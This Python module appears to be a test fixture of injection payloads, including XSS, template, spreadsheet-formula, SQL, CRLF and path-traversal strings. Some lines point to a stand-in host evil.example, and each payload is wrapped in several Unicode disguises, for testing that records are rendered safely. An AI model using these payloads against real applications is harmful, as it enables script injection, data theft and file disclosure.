"""Strings a record may hold to harm whoever reads it: our own selection, each in several disguises."""

from collections.abc import Iterator

_PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x</button></form>",
    "<object data=//evil.example></object>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https://user:secret@evil.example/",
    "{{ 7*7 }}",
    "{% raw %}{{ config }}{% endraw %}",
    "${7*7}",
    "#{7*7}",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3+cmd",
    "@SUM(1+1)",
    "'; drop table trials; --",
    '" or ""="',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%00%0d%0aSet-Cookie: a=b",
    "x\r\nER  - \r\nTY  - BOOK",
    "x}\n@misc{evil, title={y}",
    "\\input{/etc/passwd}",
    "../../etc/passwd",
    "A" * 3000,
    "٣٤",
    "é".encode().decode("latin-1"),
)  # fmt: skip
_DISGUISES = (
    lambda text: text,
    lambda text: f"\u202e{text}\u202c\u2066",
    lambda text: f"\x00\x0b{text}\x1b[31m\x7f\x85",
    lambda text: f"\ue000{text}\ue001\ue000",
    lambda text: text.swapcase() + "\ufffe",
)
_SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:x",
    "file:///etc/passwd",
    "ftp://evil.example/",
    "//evil.example",
    "/\\evil.example",
    "https:/evil.example",
    "http://[::1",
    "https://user@evil.example/",
    'https://evil.example/" onclick="alert(1)',
)
ADDRESSES = _SCHEMES
"""Addresses that must never become a link, but for those a quote makes no worse than they are."""


def strings() -> Iterator[str]:
    """More than two hundred strings."""
    for disguise in _DISGUISES:
        for payload in _PAYLOADS:
            yield disguise(payload)
    yield from _SCHEMES
